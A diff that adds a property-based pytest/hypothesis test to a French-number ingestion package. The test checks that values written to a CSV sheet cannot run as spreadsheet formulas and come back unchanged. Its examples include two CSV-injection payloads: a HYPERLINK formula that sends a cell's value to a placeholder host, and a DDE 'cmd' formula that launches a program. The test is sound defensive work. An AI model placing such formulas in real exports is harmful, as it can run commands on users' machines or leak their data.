@@ -2,15 +2,21 @@
 
 from __future__ import annotations
 
+import csv
+import tempfile
+from dataclasses import replace
 from decimal import Decimal
+from pathlib import Path
 
 import pytest
-from hypothesis import given
+from hypothesis import example, given
 from hypothesis import strategies as st
 
 from ingestion import contracts
 from ingestion.candidates import Candidate, Paragraph, propose, sheet
 from ingestion.french import format_number, number_in_words
+from ingestion.read import transcription
+from ingestion.text import would_run
 
 
 def candidates(*texts: str) -> list[Candidate]:
@@ -198,6 +204,25 @@ def test_words_and_digits_that_disagree_have_no_value(words: int, digits: int) -
 def test_no_text_breaks_the_search_and_every_literal_stands_in_its_place(text: str) -> None:
     for one in candidates(text):
         assert text[one.start : one.end] == one.literal
+
+
+@given(st.text(alphabet=st.sampled_from('=+-@\uff1d\uff0b;, \u00a0"|!A0()8,5é'), min_size=1, max_size=20))
+@example('=HYPERLINK("http://x.invalid/"&J8;"voir")&(15)')
+@example("=cmd|'/C_calc'!A0+(15)")
+@example("-8,79")
+def test_a_literal_runs_nothing_in_a_spreadsheet_and_comes_back_as_it_was(printed: str) -> None:
+    contract = contracts.load("ministry.figures")
+    [proposed] = candidates("41 projets")
+    text = sheet("bilan", [replace(proposed, literal=printed, value=Decimal("-1.5"))], contract)
+    for delimiter in ";,\t":
+        cells = [cell for row in csv.reader(text.splitlines(), delimiter=delimiter) for cell in row]
+        assert not any(would_run(cell) for cell in cells), delimiter
+    with tempfile.TemporaryDirectory() as folder:
+        file = Path(folder) / "fiche.csv"
+        file.write_text(text, encoding="utf-8-sig", newline="")
+        [record] = transcription.read(file, **contracts.reader_options(contract))
+    assert record.literal == (printed.strip(" \u00a0") or None)
+    assert record.values["value"] == "-1,5"
 
 
 def test_the_sheet_is_the_one_that_the_contract_reads() -> None:
